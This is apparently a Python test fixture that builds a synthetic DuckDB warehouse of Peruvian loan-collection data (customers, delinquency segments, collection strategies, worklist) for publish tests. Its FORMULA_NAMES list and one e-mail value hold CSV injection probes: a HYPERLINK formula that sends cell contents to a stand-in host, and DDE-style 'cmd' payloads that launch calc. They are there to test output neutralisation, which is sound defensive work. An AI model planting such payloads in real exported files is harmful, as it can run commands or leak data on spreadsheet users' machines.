"""Realistic warehouse contents for the publish tests, built without the other stages.

The tables and columns are exactly those of docs/design.md (raw.customers, raw.ingest_files,
raw.quarantine, raw.drops, marts.segment_assignments / segment_summary / segment_migration,
restricted.daily_actions). Loans evolve from date to date (days past due grow, cure or
roll); the summary, migration and worklist are derived from the assignments with SQL, as
the dbt models do. Some customers carry spreadsheet-formula look-alikes in their names
and e-mails to exercise the worklist's CSV neutralisation.
"""

from __future__ import annotations

import datetime as dt
import hashlib
import json
import random
from dataclasses import dataclass
from pathlib import Path

import duckdb
import pyarrow as pa

PII_KEY = "test-key-7c1e9b5d2f0a4e3c9b8d7f6a5e4c3b2a"  # only for tests
DATES = [dt.date(2026, 3, 2), dt.date(2026, 3, 3), dt.date(2026, 3, 4)]  # Monday..Wednesday
RULEBOOK_VERSION = hashlib.sha256(b"rulebook v1 (tests)").hexdigest()[:12]

FIRST_NAMES = ["María", "José", "Lucía", "Óscar", "Ñusta", "Ángel", "Rocío", "Iñaki", "Zoila",
               "Wilfredo", "Yolanda", "César", "Milagros", "Édgar", "Flor de María", "Renzo"]
LAST_NAMES = ["Quispe", "Mamani", "Huamán", "Núñez", "Peña", "Chávez", "Ccori", "Gutiérrez",
              "Ibáñez", "Sánchez", "Flores", "Rojas", "Condori", "Muñoz", "Yupanqui", "Villanueva"]
# Names/e-mails a spreadsheet would run as formulas (CSV injection probes).
FORMULA_NAMES = ['=HYPERLINK("http://x.example/?q="&A1;"clic")', "@SUM(1+1)*cmd|' /C calc'!A0",
                 "-2+3+cmd|' /C calc'!A0", "+Cuadros Ñahui", "\tTabulado Pérez", "\rRetorno Ruiz"]
CREDIT_TYPES = ["consumo_revolvente", "consumo_no_revolvente", "microempresa", "pequena_empresa",
                "hipotecario", "mediana_empresa"]
PRODUCTS = {"consumo_revolvente": "TARJETA", "consumo_no_revolvente": "PERSONAL",
            "microempresa": "MYPE_CAPITAL", "pequena_empresa": "MYPE_CAPITAL",
            "hipotecario": "HIPOTECARIO", "mediana_empresa": "CAPITAL_TRABAJO"}
DEPARTMENTS = ["15", "15", "15", "07", "04", "13", "14", "20", "12", "08", "05", "16", "25"]
COVERAGE = {"15", "07", "04", "13", "14", "20", "12", "08"}
STRATEGY = {  # segment -> (strategy, channel, offer, assignee)
    "CASTIGO_RECUPERO": ("RECUPERO_AGENCIA", "agencia_externa", "descuento", "agencia_externa"),
    "JUDICIAL": ("SEGUIMIENTO_JUDICIAL", "estudio_juridico", "ninguna", "estudio_juridico"),
    "DEMANDA": ("DEMANDA_JUDICIAL", "estudio_juridico", "ninguna", "estudio_juridico"),
    "AGENCIA_EXTERNA": ("AGENCIA_DESCUENTO", "agencia_externa", "descuento", "agencia_externa"),
    "PREJUDICIAL": ("PREJUDICIAL_VISITA", "visita_campo", "plan_pagos", "interno"),
    "TARDIA_MYPE": ("ASESOR_NEGOCIOS", "visita_asesor", "reprogramacion", "asesor_negocios"),
    "TARDIA_ALTO_MONTO": ("REFINANCIACION", "visita_campo", "refinanciacion", "interno"),
    "TARDIA": ("CALL_CENTER_PLAN", "llamada", "plan_pagos", "interno"),
    "TEMPRANA_BUEN_HISTORIAL": ("FLEXIBLE_DIGITAL", "whatsapp", "reprogramacion", "interno"),
    "TEMPRANA_REINCIDENTE": ("CALL_CENTER_TEMPRANA", "llamada", "ninguna", "interno"),
    "PREVENTIVA": ("RECORDATORIO_PREVENTIVO", "sms", "ninguna", "interno"),
    "AL_DIA": ("SIN_ACCION", "ninguno", "ninguna", None),
}
RULE_ORDER = list(STRATEGY)

DDL = """
CREATE SCHEMA IF NOT EXISTS raw; CREATE SCHEMA IF NOT EXISTS marts; CREATE SCHEMA IF NOT EXISTS restricted;
CREATE TABLE raw.customers (as_of_date DATE, customer_id VARCHAR, document_type VARCHAR,
  document_number VARCHAR, full_name VARCHAR, phone VARCHAR, email VARCHAR, ubigeo VARCHAR,
  digital_contact_consent BOOLEAN, source_line INTEGER);
CREATE TABLE raw.quarantine (as_of_date DATE, run_id VARCHAR, file_name VARCHAR, line_number INTEGER,
  rule VARCHAR, column_name VARCHAR, raw_values VARCHAR);
CREATE TABLE raw.ingest_files (as_of_date DATE, run_id VARCHAR, file_name VARCHAR, sha256 VARCHAR,
  rows_read BIGINT, rows_quarantined BIGINT, rows_landed BIGINT, ingested_at TIMESTAMP);
CREATE TABLE raw.drops (as_of_date DATE, run_id VARCHAR, status VARCHAR, message VARCHAR, ingested_at TIMESTAMP);
CREATE TABLE marts.segment_assignments (as_of_date DATE, loan_id VARCHAR, customer_id VARCHAR,
  credit_type VARCHAR, product_code VARCHAR, currency VARCHAR, department_code VARCHAR,
  accounting_status VARCHAR, guarantee_type VARCHAR, balance_pen DECIMAL(18,2), dpd INTEGER,
  dpd_bucket VARCHAR, max_dpd_12m INTEGER, delinquency_episodes_12m INTEGER, paid_90d_pen DECIMAL(18,2),
  days_since_last_payment INTEGER, sbs_category VARCHAR, sbs_category_aligned VARCHAR,
  provision_rate DECIMAL(9,6), provision_pen DECIMAL(18,2), ifrs9_stage INTEGER, segment_code VARCHAR,
  rule_id VARCHAR, rulebook_version VARCHAR, reason VARCHAR, strategy_code VARCHAR, channel VARCHAR,
  offer VARCHAR, assignee VARCHAR, next_contact_date DATE);
"""

DERIVED = """
CREATE OR REPLACE TABLE marts.segment_summary AS
SELECT as_of_date, segment_code, strategy_code, count(*)::BIGINT AS loans,
       count(DISTINCT customer_id)::BIGINT AS customers, sum(balance_pen)::DECIMAL(18,2) AS balance_pen,
       sum(provision_pen)::DECIMAL(18,2) AS provision_pen,
       (sum(balance_pen) / sum(sum(balance_pen)) OVER (PARTITION BY as_of_date))::DOUBLE AS balance_share
FROM marts.segment_assignments GROUP BY as_of_date, segment_code, strategy_code;

CREATE OR REPLACE TABLE marts.segment_migration AS
WITH d AS (SELECT DISTINCT as_of_date FROM marts.segment_assignments),
prev AS (SELECT as_of_date, lag(as_of_date) OVER (ORDER BY as_of_date) AS prev_date FROM d),
cur AS (SELECT a.*, p.prev_date FROM marts.segment_assignments a JOIN prev p USING (as_of_date)),
moves AS (
  SELECT c.as_of_date, coalesce(o.segment_code, 'NUEVO') AS from_segment, c.segment_code AS to_segment,
         c.balance_pen
  FROM cur c LEFT JOIN marts.segment_assignments o ON o.loan_id = c.loan_id AND o.as_of_date = c.prev_date
  UNION ALL
  SELECT p.as_of_date, o.segment_code, 'SALIDA', o.balance_pen
  FROM prev p JOIN marts.segment_assignments o ON o.as_of_date = p.prev_date
  WHERE NOT EXISTS (SELECT 1 FROM marts.segment_assignments c
                    WHERE c.loan_id = o.loan_id AND c.as_of_date = p.as_of_date))
SELECT as_of_date, from_segment, to_segment, count(*)::BIGINT AS loans,
       sum(balance_pen)::DECIMAL(18,2) AS balance_pen
FROM moves GROUP BY as_of_date, from_segment, to_segment;

CREATE OR REPLACE TABLE restricted.daily_actions AS
SELECT a.as_of_date,
       (row_number() OVER (PARTITION BY a.as_of_date ORDER BY a.dpd DESC, a.balance_pen DESC, a.loan_id))::INTEGER
           AS priority,
       a.loan_id, a.customer_id, c.full_name, c.phone, c.email, a.department_code, a.segment_code,
       a.strategy_code, a.channel, a.offer, a.assignee, a.next_contact_date,
       '07:00' AS contact_window_start, '20:00' AS contact_window_end, a.balance_pen, a.dpd
FROM marts.segment_assignments a
JOIN raw.customers c ON c.customer_id = a.customer_id AND c.as_of_date = a.as_of_date
WHERE a.strategy_code <> 'SIN_ACCION';
"""


@dataclass
class Loan:
    loan_id: str
    customer: int
    credit_type: str
    currency: str
    department: str
    balance: float
    dpd: int
    status: str
    guarantee: str
    max_dpd: int = 0
    episodes: int = 0


def _bucket(dpd: int) -> str:
    for upper, label in [(0, "0"), (8, "1-8"), (30, "9-30"), (60, "31-60"), (90, "61-90"),
                         (120, "91-120"), (180, "121-180"), (365, "181-365")]:
        if dpd <= upper:
            return label
    return ">365"


def _category(dpd: int, status: str) -> str:
    if status == "castigado":
        return "PER"
    for upper, cat in [(8, "NOR"), (30, "CPP"), (60, "DEF"), (120, "DUD")]:
        if dpd <= upper:
            return cat
    return "PER"


def _segment(loan: Loan, balance: float) -> tuple[str, str]:
    d = loan.dpd
    if loan.status == "castigado":
        return "CASTIGO_RECUPERO", "estado contable castigado"
    if loan.status == "judicial":
        return "JUDICIAL", "estado contable judicial"
    if d > 120 and balance >= 30000:
        return "DEMANDA", f"atraso {d} días > 120 y saldo S/ {balance:,.2f} >= 30,000"
    if d > 120:
        return "AGENCIA_EXTERNA", f"atraso {d} días > 120"
    if d > 90:
        return "PREJUDICIAL", f"atraso {d} días entre 91 y 120"
    if d > 30 and loan.credit_type in ("microempresa", "pequena_empresa"):
        return "TARDIA_MYPE", f"atraso {d} días entre 31 y 90, crédito {loan.credit_type}"
    if d > 30 and balance >= 10000:
        return "TARDIA_ALTO_MONTO", f"atraso {d} días entre 31 y 90 y saldo S/ {balance:,.2f} >= 10,000"
    if d > 30:
        return "TARDIA", f"atraso {d} días entre 31 y 90"
    if d > 0 and loan.episodes <= 1 and loan.max_dpd <= 30:
        return "TEMPRANA_BUEN_HISTORIAL", f"atraso {d} días, {loan.episodes} episodio(s) en 12 meses"
    if d > 0:
        return "TEMPRANA_REINCIDENTE", f"atraso {d} días con historial de atrasos"
    if loan.max_dpd > 30:
        return "PREVENTIVA", f"al día, atraso máximo 12 meses {loan.max_dpd} días"
    return "AL_DIA", "al día"


def _customers(rng: random.Random, n: int) -> list[dict]:
    out = []
    for i in range(n):
        doc_type = rng.choices(["DNI", "RUC", "CE"], [85, 10, 5])[0]
        doc = {"DNI": f"{rng.randint(10_000_000, 79_999_999)}",
               "RUC": f"20{rng.randint(100_000_000, 699_999_999)}",
               "CE": f"CE{rng.randint(1_000_000, 9_999_999)}"}[doc_type]
        name = f"{rng.choice(FIRST_NAMES)} {rng.choice(LAST_NAMES)} {rng.choice(LAST_NAMES)}"
        if i < len(FORMULA_NAMES):
            name = FORMULA_NAMES[i]
        phone = rng.choice([f"+51 9{rng.randint(10, 99)} {rng.randint(100, 999)} {rng.randint(100, 999)}",
                            f"9{rng.randint(10_000_000, 99_999_999)}", None])
        email = None if rng.random() < 0.3 else f"cliente{i:05d}.{rng.choice(LAST_NAMES).lower()}@correo.pe"
        if i == 1:
            email = "=cmd@x.pe"
        out.append(dict(customer_id=f"CUS{i:06d}", document_type=doc_type, document_number=doc,
                        full_name=name, phone=phone, email=email,
                        ubigeo=f"{rng.choice(DEPARTMENTS)}{rng.randint(1, 20):02d}{rng.randint(1, 30):02d}",
                        digital_contact_consent=rng.random() < 0.7))
    return out


def _next_business_day(day: dt.date) -> dt.date:
    nxt = day + dt.timedelta(days=1)
    while nxt.weekday() >= 5:
        nxt += dt.timedelta(days=1)
    return nxt


@dataclass
class Warehouse:
    path: Path
    dates: list[dt.date]
    customers: list[dict]


def build_warehouse(path: Path, dates: list[dt.date], loans: int = 600, seed: int = 7) -> Warehouse:
    """Create ``path`` (cartera.duckdb) with every input table publish reads."""
    rng = random.Random(seed)
    customers = _customers(rng, max(8, int(loans / 1.3)))
    book = []
    for i in range(loans):
        ct = rng.choice(CREDIT_TYPES)
        book.append(Loan(
            loan_id=f"PR{ct[:2].upper()}{i:07d}", customer=rng.randrange(len(customers)), credit_type=ct,
            currency=rng.choice(["PEN", "PEN", "PEN", "USD"]), department=customers[0]["ubigeo"][:2],
            balance=round(rng.lognormvariate(8.5, 1.1), 2), guarantee=rng.choice(
                ["ninguna", "ninguna", "preferida", "preferida_muy_rapida_realizacion"]),
            dpd=rng.choice([0] * 12 + [5, 15, 40, 70, 100, 150, 400]),
            status=rng.choice(["vigente"] * 30 + ["refinanciado", "judicial", "castigado"])))
    for loan in book:
        loan.department = customers[loan.customer]["ubigeo"][:2]

    con = duckdb.connect(str(path))
    con.execute(DDL)
    assignments, cust_rows, files, drops, quarantine = [], [], [], [], []
    prev_day = None
    for day in dates:
        gap = (day - prev_day).days if prev_day else 1
        for c in customers:
            cust_rows.append({"as_of_date": day, **c, "source_line": len(cust_rows) + 2})
        for loan in book:
            if prev_day and rng.random() < 0.02:
                continue  # paid off / left the portfolio that day
            if prev_day:
                if loan.dpd == 0 and rng.random() < 0.05:
                    loan.dpd, loan.episodes = 1, loan.episodes + 1
                elif loan.dpd > 0:
                    loan.dpd = 0 if rng.random() < 0.1 else loan.dpd + gap
            loan.max_dpd = max(loan.max_dpd, loan.dpd)
            balance = round(loan.balance * (3.75 if loan.currency == "USD" else 1), 2)
            segment, reason = _segment(loan, balance)
            strategy, channel, offer, assignee = STRATEGY[segment]
            cust = customers[loan.customer]
            if channel in ("visita_campo", "visita_asesor") and loan.department not in COVERAGE:
                channel = "llamada"
            if channel in ("whatsapp", "sms") and not cust["digital_contact_consent"]:
                channel = "llamada"
            cat = _category(loan.dpd, loan.status)
            rate = {"NOR": 0.01, "CPP": 0.05, "DEF": 0.25, "DUD": 0.6, "PER": 1.0}[cat]
            assignments.append(dict(
                as_of_date=day, loan_id=loan.loan_id, customer_id=cust["customer_id"],
                credit_type=loan.credit_type, product_code=PRODUCTS[loan.credit_type], currency=loan.currency,
                department_code=loan.department, accounting_status=loan.status, guarantee_type=loan.guarantee,
                balance_pen=balance, dpd=loan.dpd, dpd_bucket=_bucket(loan.dpd), max_dpd_12m=loan.max_dpd,
                delinquency_episodes_12m=loan.episodes, paid_90d_pen=round(rng.random() * 900, 2),
                days_since_last_payment=None if rng.random() < 0.1 else rng.randint(0, 200),
                sbs_category=cat, sbs_category_aligned=cat, provision_rate=rate,
                provision_pen=round(balance * rate, 2),
                ifrs9_stage=3 if loan.dpd > 90 or loan.status in ("judicial", "castigado") else 2 if loan.dpd > 30 else 1,
                segment_code=segment, rule_id=f"R{RULE_ORDER.index(segment) + 1:02d}",
                rulebook_version=RULEBOOK_VERSION, reason=reason, strategy_code=strategy, channel=channel,
                offer=offer, assignee=assignee,
                next_contact_date=None if strategy == "SIN_ACCION" else _next_business_day(day)))
        run = f"ingest-{day.isoformat()}"
        at = dt.datetime.combine(day + dt.timedelta(days=1), dt.time(6, 0))
        for name, n in [("loans.csv", loans), ("payments.csv", loans // 10), ("customers.csv", len(customers)),
                        ("fx_rates.csv", 1), ("_control.csv", 4)]:
            q = 1 if name == "loans.csv" else 0
            files.append(dict(as_of_date=day, run_id=run, file_name=name,
                              sha256=hashlib.sha256(f"{day}{name}{n}".encode()).hexdigest(),
                              rows_read=n, rows_quarantined=q, rows_landed=n - q, ingested_at=at))
        quarantine.append(dict(as_of_date=day, run_id=run, file_name="loans.csv", line_number=17,
                               rule="days_past_due fuera de rango 0..10000", column_name="days_past_due",
                               raw_values=json.dumps({"loan_id": "PRXX9999999", "days_past_due": "-4"})))
        drops.append(dict(as_of_date=day, run_id=run, status="landed", message="ok", ingested_at=at))
        prev_day = day

    for table, rows in [("raw.customers", cust_rows), ("marts.segment_assignments", assignments),
                        ("raw.ingest_files", files), ("raw.drops", drops), ("raw.quarantine", quarantine)]:
        cols = [r[0] for r in con.execute(f"DESCRIBE {table}").fetchall()]
        data = pa.table({c: [r[c] for r in rows] for c in cols})  # noqa: F841 - read by DuckDB
        con.execute(f"INSERT INTO {table} BY NAME SELECT * FROM data")
    con.execute(DERIVED)
    con.close()
    return Warehouse(path=path, dates=list(dates), customers=customers)


def rederive(path: Path) -> None:
    """Recompute summary, migration and worklist after a test edits the assignments."""
    con = duckdb.connect(str(path))
    con.execute(DERIVED)
    con.close()
